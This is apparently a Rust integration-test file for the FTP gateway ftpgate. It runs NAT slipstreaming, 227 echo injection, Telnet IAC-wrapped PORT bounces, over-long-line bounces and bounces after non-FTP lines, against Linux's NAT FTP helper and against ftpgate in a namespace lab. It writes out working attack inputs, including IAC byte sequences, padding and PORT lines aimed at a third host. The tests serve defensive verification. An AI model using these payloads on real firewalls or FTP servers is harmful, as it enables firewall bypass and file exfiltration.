//! Issue 9's attacks on the ALG's trust in a control connection, with real programs in the
//! namespace lab (`scripts/lab.sh`), each run through Linux's NAT with its FTP helper
//! (`kernel`) and through ftpgate, as a comparison. Every attack has several variants; each
//! variant aims at its own listener, so a connection tells which variant got through.
//!
//! - NAT slipstreaming (client inside): the inside client's curl POSTs to an outside
//!   attacker's port 21 (`scripts/slipstream-server.py`, answering "230" like an FTP server);
//!   the request carries `PORT 10,77,0,2,…` naming an inside port where a listener waits, and
//!   the attacker connects to whatever address the line names when it arrives, and to that
//!   port on the victim's public address.
//! - Echo injection (server inside): an outside client sends pyftpdlib lines holding a bare
//!   LF followed by a 227 naming the inside server's own port (not forwarded, a listener
//!   there); pyftpdlib echoes them in its 500 and 257 replies; the client then connects to
//!   every address the replies announced.
//! - Telnet IAC (client inside): `\xff\xf4\xff\xf2PORT <third host>` and other Telnet
//!   commands around a PORT; ProFTPD strips them, obeys the PORT and sends a file to the
//!   third host.
//! - Over-long line (client inside): `NOOP ` and 2,100 bytes without a line end, then a PORT
//!   naming the third host; pyftpdlib drops its buffer at 2,048 bytes and obeys the PORT.
//! - A bounce after a line that is not FTP (client inside): after the login, `HELLO WORLD`
//!   (or an HTTP request line, or an empty line), then a PORT naming the third host: a
//!   session that has behaved as FTP must not lose the ALG's checks to one unknown line.
//!
//! The kernel halves assert what the kernel's helper really does (it reads an announcement
//! only at the start of a segment that follows one ending in a line feed, and never refuses
//! a bounce); the ftpgate halves assert that the attack fails: no connection reaches the
//! victim's listener and, where ftpgate can refuse a line, the server never read it. How
//! ftpgate refuses (dropped line, error reply, reset, a non-FTP session passed as plain TCP)
//! is not asserted. Like tests/lab.rs, the tests need root and skip (printing why; failing
//! under `CI=true`) without it, without namespaces, or without ProFTPD.

#[path = "lab/bounce.rs"]
mod bounce;
#[path = "lab/env.rs"]
mod env;
#[path = "lab/ftp.rs"]
mod ftp;
#[path = "lab/net.rs"]
mod net;
#[path = "lab/proftpd.rs"]
mod proftpd;
use ftpgate_testkit::skip;
#[path = "lab/trust.rs"]
mod trust;

use std::path::Path;

use env::{lab_env_or_skip, proftpd_or_skip, LabEnv};
use ftp::Server;
use net::{lab_or_skip, FtpgateOpts, Lab, Layout, Mode, Role};
use proftpd::Proftpd;
use trust::{
    login_steps, p1p2, raw_session, victim_curl, Attacker, Listeners, Reached, Slipstream, VICTIM,
};

/// What each variant's attacker saw: (variant, dialogue or tries).
type Seen = Vec<(String, String)>;
/// An echo-injection shape: its name, the bytes sent for an injected "(h1,...,p2)", the
/// replies awaited.
type EchoShape = (&'static str, fn(&str) -> String, [&'static str; 2]);

/// Brings up a lab for `test` in `mode` and `layout` (ftpgate with the lab's rule file),
/// with a temp dir for its files; `None` when the machine cannot run it.
fn lab(
    test: &str,
    mode: Mode,
    layout: Layout,
) -> Option<(&'static LabEnv, Lab, tempfile::TempDir)> {
    let env = lab_env_or_skip(test)?;
    let work = tempfile::tempdir().expect("temp dir");
    let opts = FtpgateOpts::ftpgate(work.path().join("transfers.jsonl"));
    let opts = (mode == Mode::Ftpgate).then_some(&opts);
    let lab = lab_or_skip(test, mode, layout, opts)?;
    Some((env, lab, work))
}

// ---------------------------------------------------------------- NAT slipstreaming

/// Runs every slipstreaming variant against listeners on the victim's ports; what each
/// attacker saw, and which ports got a connection.
fn slipstream(env: &LabEnv, lab: &Lab, work: &Path) -> (Seen, Reached) {
    let ports: Vec<u16> = Slipstream::ALL.iter().map(|v| v.port()).collect();
    let listeners = Listeners::start(env, lab, Role::Client, VICTIM, &ports, work);
    let mut seen = Vec::new();
    for variant in Slipstream::ALL {
        let mut attacker = Attacker::start(env, lab, variant, work);
        victim_curl(lab, variant, work);
        attacker.wait();
        let received = attacker.received();
        assert!(
            received.starts_with("POST / HTTP/1.1\r\n")
                || received.starts_with("USER / HTTP/1.1\r\n"),
            "{variant:?}: the victim's request did not reach the attacker: {received:?}"
        );
        seen.push((
            format!("{variant:?}"),
            format!("{}\n{received}", attacker.tries()),
        ));
    }
    (seen, listeners.finish(env, lab))
}

/// Through the kernel, slipstreaming works whenever the announcement starts a segment that
/// follows one ending in "\n": the body sent after `Expect: 100-continue`, alone (method
/// POST or USER) or as a keep-alive connection's second request, PORT or EPRT. The helper rewrites the line to
/// the masquerade address (keeping the port) and forwards the attacker's connection to the
/// victim's port. A PORT in the middle of the request's one segment is not seen: it passes
/// unchanged, and the attacker's tries fail.
#[test]
fn kernel_mode_slipstreaming_opens_the_inside_port_when_the_line_starts_a_segment() {
    let test = "kernel_mode_slipstreaming_opens_the_inside_port_when_the_line_starts_a_segment";
    let Some((env, lab, work)) = lab(test, Mode::Kernel, Layout::ClientInside) else {
        return;
    };
    let (seen, opened) = slipstream(env, &lab, work.path());
    let opened_ports: Vec<u16> = opened.iter().map(|(port, _, _)| *port).collect();
    let expected: Vec<u16> = [
        Slipstream::ExpectContinue,
        Slipstream::KeepAlive,
        Slipstream::KeepAliveEprt,
        Slipstream::UserMethod,
    ]
    .map(Slipstream::port)
    .to_vec();
    assert_eq!(opened_ports, expected, "{seen:#?}");
    for (port, peer, bytes) in &opened {
        assert_eq!(bytes, b"slipstream\n", "port {port}");
        assert!(
            peer.starts_with("198.51.100.2:"),
            "port {port}: peer {peer}"
        );
    }
    for (variant, (name, text)) in Slipstream::ALL.iter().zip(&seen) {
        let port = variant.port();
        if *variant == Slipstream::BodyLine {
            // Passed unrewritten: the attacker reads the inside address itself.
            assert!(
                text.contains(&format!("PORT 10,77,0,2,{}", p1p2(port))),
                "{text}"
            );
        } else {
            assert!(
                text.contains(&format!("198.51.100.1:{port} connected")),
                "{name}: {text}"
            );
        }
    }
}

/// Through ftpgate, no slipstreaming variant opens anything: an HTTP request is not FTP, so
/// nothing in the connection is an announcement, and no connection reaches any of the
/// victim's ports.
#[test]
fn ftpgate_mode_slipstreaming_opens_nothing() {
    let test = "ftpgate_mode_slipstreaming_opens_nothing";
    let Some((env, lab, work)) = lab(test, Mode::Ftpgate, Layout::ClientInside) else {
        return;
    };
    let (seen, opened) = slipstream(env, &lab, work.path());
    assert!(
        opened.is_empty(),
        "slipstreaming reached the victim's ports {opened:?}:\n{seen:#?}\nftpgate:\n{}",
        lab.ftpgate_stderr()
    );
    for (variant, text) in &seen {
        assert!(!text.contains(" connected"), "{variant:?}: {text}");
    }
}

// ---------------------------------------------------------------- echo injection

/// The echo-injection variants: (name, steps after the login, the injected address's port).
/// Each sends the injection and a PASV in one segment, in either order, so that a PASV is
/// awaiting its reply while the echo comes back or just before.
fn echo_variants() -> Vec<(&'static str, Vec<String>, u16)> {
    let inject = |port: u16| format!("(10,77,0,10,{})", p1p2(port));
    let shapes: [EchoShape; 5] = [
        (
            "500 echo, before PASV",
            |a| format!("X\\n227-{a}\\r\\nPASV\\r\\n"),
            ["500", "227"],
        ),
        (
            "500 echo, after PASV",
            |a| format!("PASV\\r\\nX\\n227-{a}\\r\\n"),
            ["227", "500"],
        ),
        (
            "257 echo, before PASV",
            |a| format!("MKD d\\n227 Entering Passive Mode {a}\\r\\nPASV\\r\\n"),
            ["257", "227"],
        ),
        (
            "257 echo, after PASV",
            |a| format!("PASV\\r\\nMKD d\\n227 Entering Passive Mode {a}\\r\\n"),
            ["227", "257"],
        ),
        (
            "257 echo of a 227- line",
            |a| format!("MKD e\\n227-{a}\\r\\nPASV\\r\\n"),
            ["257", "227"],
        ),
    ];
    shapes
        .iter()
        .enumerate()
        .map(|(i, (name, send, replies))| {
            let port = 3306 + i as u16;
            let mut steps = login_steps();
            steps.push(format!("send:{}", send(&inject(port))));
            steps.extend(replies.iter().map(|code| format!("reply:{code}")));
            steps.push("drain:0.3".into());
            (*name, steps, port)
        })
        .collect()
}

/// Runs every echo-injection variant from the outside host against pyftpdlib behind the
/// forward; the client's dialogues, the server's transcript, and which of the inside
/// server's ports got a connection.
fn echo_injection(env: &LabEnv, lab: &Lab, work: &Path) -> (Seen, String, Reached) {
    let server = Server::start(env, lab, Layout::ServerInside);
    let variants = echo_variants();
    let ports: Vec<u16> = variants.iter().map(|v| v.2).collect();
    let listeners = Listeners::start(env, lab, Role::Client, "10.77.0.10", &ports, work);
    let mut dialogues = Vec::new();
    for (name, steps, _) in &variants {
        let out = raw_session(
            env,
            lab,
            Role::Server,
            "198.51.100.1:21",
            true,
            false,
            steps,
        );
        dialogues.push((
            name.to_string(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
        ));
    }
    (dialogues, server.transcript(), listeners.finish(env, lab))
}

/// Through the kernel, pyftpdlib echoes every injected 227 back (unrewritten), but the
/// helper reads a 227 only at the start of a segment, and every echo starts with "500" or
/// "257": nothing opens, and the client's tries at the named address fail.
#[test]
fn kernel_mode_ignores_227_lines_echoed_by_an_inside_server() {
    let test = "kernel_mode_ignores_227_lines_echoed_by_an_inside_server";
    let Some((env, lab, work)) = lab(test, Mode::Kernel, Layout::ServerInside) else {
        return;
    };
    let (dialogues, transcript, opened) = echo_injection(env, &lab, work.path());
    for ((name, dialogue), (_, _, port)) in dialogues.iter().zip(echo_variants()) {
        let inject = format!("(10,77,0,10,{})", p1p2(port));
        assert!(
            dialogue.contains("\\n227") && dialogue.contains(&inject),
            "{name}: pyftpdlib did not echo the injected 227:\n{dialogue}"
        );
        assert!(transcript.contains(&inject), "{name}: {transcript}");
        assert!(
            !dialogue.contains(&format!("198.51.100.1:{port} connected")),
            "{name}: {dialogue}"
        );
    }
    assert!(
        opened.is_empty(),
        "the kernel opened {opened:?}:\n{dialogues:#?}"
    );
}

/// Through ftpgate, no echo-injection variant opens the inside server's port: the client
/// lines holding a bare LF are refused and never reach pyftpdlib (its transcript lacks every
/// injected address), and no connection reaches the inside server's listeners.
#[test]
fn ftpgate_mode_refuses_227_lines_for_an_inside_server_to_echo() {
    let test = "ftpgate_mode_refuses_227_lines_for_an_inside_server_to_echo";
    let Some((env, lab, work)) = lab(test, Mode::Ftpgate, Layout::ServerInside) else {
        return;
    };
    let (dialogues, transcript, opened) = echo_injection(env, &lab, work.path());
    assert!(
        transcript.contains("<- USER anonymous"),
        "no session reached pyftpdlib:\n{transcript}"
    );
    assert!(
        opened.is_empty(),
        "echo injection reached the inside server's ports {opened:?}:\n{dialogues:#?}\nftpgate:\n{}",
        lab.ftpgate_stderr()
    );
    for (_, _, port) in echo_variants() {
        let inject = format!("(10,77,0,10,{})", p1p2(port));
        assert!(
            !transcript.contains(&inject),
            "pyftpdlib read the injected {inject}:\n{transcript}"
        );
    }
}

// ---------------------------------------------------------------- bounces past the ALG's reading

/// The third host's port a bounce variant aims at, and its PORT line's address part.
fn third_target(index: usize) -> (u16, String) {
    let port = 40500 + index as u16;
    (port, format!("198,51,100,3,{}", p1p2(port)))
}

/// Runs bounce variants from the inside client to the server 198.51.100.2: each is the
/// login, `attack(port_line)`, then RETR secret.txt. Which third-host ports got the file
/// (and from whom) and the dialogues.
fn bounces(
    env: &LabEnv,
    lab: &Lab,
    work: &Path,
    attacks: &[fn(&str) -> Vec<String>],
) -> (Vec<String>, Reached) {
    let ports: Vec<u16> = (0..attacks.len()).map(|i| third_target(i).0).collect();
    let listeners = Listeners::start(env, lab, Role::Third, "198.51.100.3", &ports, work);
    let mut dialogues = Vec::new();
    for (i, attack) in attacks.iter().enumerate() {
        let (_, line) = third_target(i);
        let mut steps = login_steps();
        steps.extend(attack(&format!("PORT {line}\\r\\n")));
        steps.extend(
            [
                "send:RETR secret.txt\\r\\n",
                "reply:226",
                "send:QUIT\\r\\n",
                "drain:0.3",
            ]
            .map(String::from),
        );
        let out = raw_session(
            env,
            lab,
            Role::Client,
            "198.51.100.2:21",
            false,
            false,
            &steps,
        );
        dialogues.push(String::from_utf8_lossy(&out.stdout).into_owned());
    }
    (dialogues, listeners.finish(env, lab))
}

/// Telnet commands around a PORT, each a way ProFTPD reads the line as a PORT.
fn iac_attacks() -> Vec<fn(&str) -> Vec<String>> {
    vec![
        // Interrupt Process and Data Mark (RFC 959's abort sequence) before the verb.
        |port| {
            vec![
                format!("send:\\xff\\xf4\\xff\\xf2{port}"),
                "reply:200".into(),
            ]
        },
        // An option negotiation (WILL ECHO) before the verb.
        |port| vec![format!("send:\\xff\\xfb\\x01{port}"), "reply:200".into()],
        // Interrupt Process inside the verb.
        |port| {
            vec![
                format!("send:PO\\xff\\xf4RT{}", &port[4..]),
                "reply:200".into(),
            ]
        },
    ]
}

fn proftpd_lab(
    test: &str,
    mode: Mode,
) -> Option<(&'static LabEnv, Lab, tempfile::TempDir, &'static Path)> {
    let (env, lab, work) = lab(test, mode, Layout::ClientInside)?;
    let bin = proftpd_or_skip(test)?;
    Some((env, lab, work, bin))
}

/// Through the kernel, the PORT after Telnet commands passes untouched (the helper sees
/// neither a PORT at the segment's start nor an address of the client's) and ProFTPD, which
/// strips the Telnet commands, obeys it: the third host gets the file from the server, for
/// every variant, and ProFTPD's command log has the PORT.
#[test]
fn kernel_mode_lets_a_telnet_iac_bounce_through_to_proftpd() {
    let test = "kernel_mode_lets_a_telnet_iac_bounce_through_to_proftpd";
    let Some((env, lab, work, bin)) = proftpd_lab(test, Mode::Kernel) else {
        return;
    };
    let server = Proftpd::start(bin, &lab, Layout::ClientInside);
    server.add_file("secret.txt", b"bounced by proftpd");
    let attacks = iac_attacks();
    let (dialogues, got) = bounces(env, &lab, work.path(), &attacks);
    assert_eq!(got.len(), attacks.len(), "{got:?}\n{dialogues:#?}");
    for (i, (port, peer, bytes)) in got.iter().enumerate() {
        assert_eq!(*port, third_target(i).0);
        assert!(peer.starts_with("198.51.100.2:"), "peer {peer}");
        assert_eq!(bytes, b"bounced by proftpd");
        let command = format!("PORT {}", third_target(i).1);
        assert!(
            server.commands().contains(&command),
            "{:?}",
            server.commands()
        );
    }
}

/// Through ftpgate, no Telnet IAC variant reaches ProFTPD as a PORT: its command log has the
/// session's login and no PORT, and the third host gets nothing.
#[test]
fn ftpgate_mode_refuses_a_telnet_iac_bounce_to_proftpd() {
    let test = "ftpgate_mode_refuses_a_telnet_iac_bounce_to_proftpd";
    let Some((env, lab, work, bin)) = proftpd_lab(test, Mode::Ftpgate) else {
        return;
    };
    let server = Proftpd::start(bin, &lab, Layout::ClientInside);
    server.add_file("secret.txt", b"must not reach the third host");
    let (dialogues, got) = bounces(env, &lab, work.path(), &iac_attacks());
    let commands = server.commands();
    assert!(
        commands.iter().any(|c| c == "USER anonymous"),
        "ProFTPD logged no session: {commands:?}\n{}",
        server.stderr()
    );
    assert!(
        !commands.iter().any(|c| c.starts_with("PORT")),
        "ProFTPD read a PORT: {commands:?}\n{dialogues:#?}\nftpgate:\n{}",
        lab.ftpgate_stderr()
    );
    assert!(got.is_empty(), "the third host got {got:?}");
}

/// Padding longer than pyftpdlib's 2,048-byte buffer, without a line end, then (once
/// pyftpdlib has answered "500 Command too long.", or a few seconds) the PORT as a line of
/// its own, which pyftpdlib reads as a fresh command.
fn over_long_attacks() -> Vec<fn(&str) -> Vec<String>> {
    fn padded(prefix: &str, port: &str) -> Vec<String> {
        vec![
            format!("send:{prefix}{}", "A".repeat(2100)),
            "reply:500".into(),
            format!("send:{port}"),
            "reply:200".into(),
        ]
    }
    vec![|port| padded("NOOP ", port), |port| padded("", port)]
}

/// Through the kernel, the bytes pass untouched and pyftpdlib (obeying foreign addresses)
/// sends the file to the third host, for both paddings; its transcript has the PORT.
#[test]
fn kernel_mode_lets_an_over_long_line_bounce_through_to_pyftpdlib() {
    let test = "kernel_mode_lets_an_over_long_line_bounce_through_to_pyftpdlib";
    let Some((env, lab, work)) = lab(test, Mode::Kernel, Layout::ClientInside) else {
        return;
    };
    let server = Server::start_with(env, &lab, Layout::ClientInside, &["--permit-foreign"]);
    std::fs::write(server.root().join("secret.txt"), b"bounced by pyftpdlib").unwrap();
    let attacks = over_long_attacks();
    let (dialogues, got) = bounces(env, &lab, work.path(), &attacks);
    assert_eq!(got.len(), attacks.len(), "{got:?}\n{dialogues:#?}");
    let transcript = server.transcript();
    for (i, (_, peer, bytes)) in got.iter().enumerate() {
        assert!(peer.starts_with("198.51.100.2:"), "peer {peer}");
        assert_eq!(bytes, b"bounced by pyftpdlib");
        let command = format!("<- PORT {}\n", third_target(i).1);
        assert!(transcript.contains(&command), "{transcript}");
    }
    assert!(
        transcript.contains("-> 500 Command too long."),
        "{transcript}"
    );
}

/// Through ftpgate, no part of an over-long client line reaches pyftpdlib, nor the PORT
/// after it: the transcript has the login and no PORT, and the third host gets nothing.
#[test]
fn ftpgate_mode_refuses_an_over_long_line_bounce_to_pyftpdlib() {
    let test = "ftpgate_mode_refuses_an_over_long_line_bounce_to_pyftpdlib";
    let Some((env, lab, work)) = lab(test, Mode::Ftpgate, Layout::ClientInside) else {
        return;
    };
    let server = Server::start_with(env, &lab, Layout::ClientInside, &["--permit-foreign"]);
    std::fs::write(server.root().join("secret.txt"), b"must not reach").unwrap();
    let (dialogues, got) = bounces(env, &lab, work.path(), &over_long_attacks());
    let transcript = server.transcript();
    assert!(transcript.contains("<- USER anonymous"), "{transcript}");
    assert!(
        !transcript.contains("<- PORT"),
        "pyftpdlib read a PORT:\n{transcript}\n{dialogues:#?}\nftpgate:\n{}",
        lab.ftpgate_stderr()
    );
    assert!(
        !transcript.contains("Command too long"),
        "pyftpdlib read the over-long line:\n{transcript}"
    );
    assert!(got.is_empty(), "the third host got {got:?}");
}

// ---------------------------------------------------------------- bounces after a line that is not FTP

/// A line that is not an FTP command, answered by pyftpdlib, then the bounce PORT: a session
/// that has behaved as FTP (greeting, login) must stay FTP to the ALG, or the line turns its
/// checks off for the rest of the session.
fn after_non_ftp_attacks() -> Vec<fn(&str) -> Vec<String>> {
    fn after(line: &str, reply: &str, port: &str) -> Vec<String> {
        vec![
            format!("send:{line}"),
            format!("reply:{reply}"),
            format!("send:{port}"),
            "reply:200".into(),
        ]
    }
    vec![
        |port| after("HELLO WORLD\\r\\n", "500", port),
        |port| after("GET / HTTP/1.1\\r\\n", "500", port),
        |port| after("\\r\\n", "500", port),
    ]
}

/// Through the kernel, the bounce PORT after an unknown command passes (the helper never
/// refuses a bounce) and pyftpdlib sends the file to the third host, for every variant.
#[test]
fn kernel_mode_lets_a_bounce_after_an_unknown_line_through_to_pyftpdlib() {
    let test = "kernel_mode_lets_a_bounce_after_an_unknown_line_through_to_pyftpdlib";
    let Some((env, lab, work)) = lab(test, Mode::Kernel, Layout::ClientInside) else {
        return;
    };
    let server = Server::start_with(env, &lab, Layout::ClientInside, &["--permit-foreign"]);
    std::fs::write(server.root().join("secret.txt"), b"bounced by pyftpdlib").unwrap();
    let attacks = after_non_ftp_attacks();
    let (dialogues, got) = bounces(env, &lab, work.path(), &attacks);
    assert_eq!(got.len(), attacks.len(), "{got:?}\n{dialogues:#?}");
    for (_, peer, bytes) in &got {
        assert!(peer.starts_with("198.51.100.2:"), "peer {peer}");
        assert_eq!(bytes, b"bounced by pyftpdlib");
    }
}

/// Through ftpgate, the bounce PORT after an unknown command is refused like any bounce: the
/// transcript has the unknown lines and no PORT, and the third host gets nothing.
#[test]
fn ftpgate_mode_refuses_a_bounce_after_an_unknown_line_to_pyftpdlib() {
    let test = "ftpgate_mode_refuses_a_bounce_after_an_unknown_line_to_pyftpdlib";
    let Some((env, lab, work)) = lab(test, Mode::Ftpgate, Layout::ClientInside) else {
        return;
    };
    let server = Server::start_with(env, &lab, Layout::ClientInside, &["--permit-foreign"]);
    std::fs::write(server.root().join("secret.txt"), b"must not reach").unwrap();
    let (dialogues, got) = bounces(env, &lab, work.path(), &after_non_ftp_attacks());
    let transcript = server.transcript();
    assert!(transcript.contains("<- USER anonymous"), "{transcript}");
    assert!(
        !transcript.contains("<- PORT"),
        "pyftpdlib read a PORT:\n{transcript}\n{dialogues:#?}\nftpgate:\n{}",
        lab.ftpgate_stderr()
    );
    assert!(got.is_empty(), "the third host got {got:?}");
}
